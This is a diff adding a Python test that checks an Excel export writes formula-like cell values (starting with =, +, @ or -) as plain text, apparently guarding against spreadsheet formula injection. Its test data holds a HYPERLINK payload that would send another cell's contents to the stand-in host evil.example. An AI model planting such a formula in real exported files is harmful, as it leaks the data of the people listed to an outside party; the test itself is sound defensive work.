@@ -44,3 +44,13 @@ def test_xlsx_response_is_a_download() -> None:
     assert response["Content-Type"] == XLSX_TYPE
     assert response["Content-Disposition"] == 'attachment; filename="danh-sach.xlsx"'
     assert _sheet(response.content)["A2"].value == "CB001"
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
+    payload = '=HYPERLINK("http://evil.example/?d="&D2,"Xem hồ sơ")'
+    data = workbook_bytes(["Họ và tên", "Ghi chú"], [[payload, "+1-2"], ["@SUM(A1)", "-3"]])
+
+    sheet = load_workbook(io.BytesIO(data)).active
+    for ref, text in (("A2", payload), ("B2", "+1-2"), ("A3", "@SUM(A1)"), ("B3", "-3")):
+        assert sheet[ref].data_type == "s"
+        assert sheet[ref].value == text
